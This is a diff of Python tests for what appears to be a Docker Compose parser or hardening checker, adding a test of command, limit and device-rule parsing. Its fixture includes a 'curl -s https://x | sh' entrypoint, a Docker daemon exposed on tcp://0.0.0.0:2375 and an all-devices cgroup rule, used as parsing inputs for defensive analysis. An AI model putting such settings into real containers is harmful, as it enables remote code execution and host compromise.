@@ -55,7 +55,7 @@ def test_interpolation_from_defaults_and_dotenv_never_the_environment(monkeypatc
     a = service(text, parse_dotenv("# comment\nexport TAG='7.2'\n"))
     assert a.image is not None and isinstance(a.image.value, ImageReference) and a.image.value.text == "redis:7.2"
     assert a.user is not None and isinstance(a.user.value, Unresolved)
-    assert a.command is not None and a.command.value == "echo $HOME"
+    assert a.command is not None and [w.value for w in a.command.commands[0].words] == ["echo", "$HOME"]
     unset = service(text)
     assert unset.image is not None and isinstance(unset.image.value, Unresolved)
 
@@ -110,3 +110,24 @@ def test_alias_bomb_composes_without_expansion() -> None:
     text = "\n".join(lines) + "\nservices:\n  web:\n    <<: {}\n    image: nginx:1.27\n    command: *a8\n"
     parsed = parse_compose(text, "compose.yaml", {})
     assert parsed.model.containers[0].command is not None
+
+
+def test_commands_limits_and_hardening_fields() -> None:
+    text = (
+        "services:\n  a:\n"
+        "    command: dockerd -H tcp://0.0.0.0:2375\n"
+        '    entrypoint: ["sh", "-c", "curl -s https://x | sh"]\n'
+        "    read_only: true\n    mem_limit: 512m\n"
+        "    deploy:\n      resources:\n        limits:\n          memory: 1g\n          pids: 100\n"
+        "    device_cgroup_rules: ['a *:* rwm']\n    expose: ['2375']\n"
+    )
+    a = service(text)
+    assert a.command is not None
+    (command,) = a.command.commands
+    assert [w.value for w in command.words] == ["dockerd", "-H", "tcp://0.0.0.0:2375"]
+    assert command.words[2].span == Span(3, 25, 3, 43)
+    assert a.entrypoint is not None and [c.name for c in a.entrypoint.commands] == ["sh", "curl", "sh"]
+    assert a.read_only is not None and a.read_only.value is True
+    assert {key: value.value for key, value in a.limits.items()} == {"memory": "512m", "pids": "100"}
+    assert [rule.value for rule in a.device_cgroup_rules] == ["a *:* rwm"]
+    assert [port.value for port in a.expose] == ["2375"]
